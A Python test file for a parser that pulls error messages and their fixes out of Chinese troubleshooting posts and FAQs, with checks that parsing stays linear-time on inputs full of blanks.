def test_a_heading_with_a_command_in_code_and_blanks_after_the_word_for_an_error_is_read_in_linear_time():
    """Found on review: the quoted error after 报错 in a heading with a command in code was looked for with two runs of
    blanks around an optional colon, tried every way; 100,000 blanks after 报错 took 43 s."""
    from scaling import grows_linearly

    from errata.entries import _error_as_heading

    assert _error_as_heading('Q: `pnpm install` 报错 "Unsupported engine"') == "Unsupported engine"
    assert grows_linearly(lambda n: _error_as_heading("`x` 报错" + " " * n + "y"), 20_000)


def test_an_faq_heading_that_says_it_failed_over_a_block_of_what_the_program_printed_is_an_entry():
    """Lookup round 18: go-zero's FAQ is ``## Windows上报错``, then at once a text block of what goctl printed, then the
    fix in a sentence. A heading that says an error happened, with a block of output right under it, shows that error,
    though nothing in it names one; not a shell's block (the commands run), nor a command at its top."""
    faq = textwrap.dedent(
        """\
        ## Windows上报错
        ```text
        A required privilege is not held by the client.
        ```
        解决方法："以管理员身份运行" goctl 即可。

        ## 安装报错
        ```bash
        go get -u github.com/zeromicro/go-zero
        ```
        解决方法：换一个代理。

        ## 启动失败
        ```
        go get github.com/x/y@latest
        ```
        解决方法：升级 Go。
        """
    )
    entries = find_entries(faq)
    assert [e.message for e in entries] == ["A required privilege is not held by the client."]
    assert "以管理员身份运行" in entries[0].sections.get("solution", "")


def test_a_title_that_names_a_printed_error_with_a_full_width_colon_typed_inside_it_is_an_entry():
    """Lookup round 18: a Bazel post's title is ``Bazel 报错：/tmp/…/x86_64-linux-gcc： No such file or directory``, the
    author's full-width colon typed inside the line gcc's wrapper printed with an ASCII one. Read as printed, the message
    is the whole line the word for an error introduces, and the post (no heading, a log, the fix in prose) is its entry."""
    body = "在测试bazel编译cpp项目时，遇到一个问题：\n```shell\n$bazel build //main:hello-world\n```\n按照讨论，在指令后添加`--sandbox_add_mount_pair=/tmp`能修复这个问题。\n"
    title = "Bazel 报错：/tmp/external/bin/x86_64-linux-gcc： No such file or directory"
    entries = find_entries(body, 1, title)
    assert [e.message for e in entries] == ["/tmp/external/bin/x86_64-linux-gcc: No such file or directory"]
    assert entries[0].title_heading == title  # the page's heading stays as the author wrote it


def test_an_item_that_names_an_error_and_the_items_after_it_that_open_with_labels_make_one_entry():
    """Lookup round 18: a RocketMQ install note lists ``* 报错：No route info of this topic: myTopic01``, a blank line, then
    ``* 解决：…``. The items after an error's item that each open with a label are its sections; an item that opens
    with none ends them."""
    body = "# 笔记\n\n- 报错：ModuleNotFoundError: No module named cv2\n\n- 原因：没装 opencv\n- 解决：pip install opencv-python\n- 下一步：部署\n"
    (entry,) = find_entries(body)
    assert entry.message == "ModuleNotFoundError: No module named cv2"
    assert entry.sections == {"analysis": "没装 opencv", "solution": "pip install opencv-python"}
    assert (entry.line, entry.end_line, entry.id_after_line) == (3, 6, 3)
    from errata.cards import render_essay

    assert f'id="{entry.anchor}"' in _the_site_s_markdown()(render_essay(body, [entry]))  # the link leads to the item
    assert find_entries("# 笔记\n\n- 报错：ModuleNotFoundError: No module named cv2\n- 下一步：部署\n") == []


def test_an_item_that_says_the_error_follows_takes_it_from_its_next_paragraph_indented_under_it():
    """Lookup round 18: ``* 问题1：启动`Broker`时报错：``, a blank line, the JVM's lines indented under the item, then
    ``* 解决方法：…``. The item's next paragraph is where its error is, as its next line would be."""
    body = (
        "# 安装\n\n* 问题1：启动`Broker`时报错：\n\n"
        "    Error: VM option 'UseG1GC' is experimental and must be enabled via -XX:+UnlockExperimentalVMOptions.\n"
        "    Error: Could not create the Java Virtual Machine.\n\n* 解决方法：编辑 runbroker.sh，删除 UseG1GC 这一行即可。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message.startswith("Error: VM option 'UseG1GC' is experimental")
    assert entry.sections.get("solution") == "编辑 runbroker.sh，删除 UseG1GC 这一行即可。"
    from errata.cards import render_essay

    assert f'id="{entry.anchor}"' in _the_site_s_markdown()(render_essay(body, [entry]))


def test_a_label_s_words_are_read_in_linear_time_whatever_blanks_they_hold():
    """On review: the English gloss after a label (``解决方案（Action）``) was looked for after any run of blanks, tried
    from each blank of the run: a heading of 100,000 blanks between two letters took minutes. Labels read as before."""
    from scaling import grows_linearly

    from errata.entries import section_key

    assert grows_linearly(lambda n: section_key("a" + " " * n + "x"), 5_000)
    assert grows_linearly(lambda n: find_entries("## a" + " " * n + "x\n\n解决：重启\n"), 5_000)
    assert [section_key(t) for t in ("A · 解决方案（Action）", "原因 (Root cause)", "4. 解决方案")] == ["solution", "analysis", "solution"]
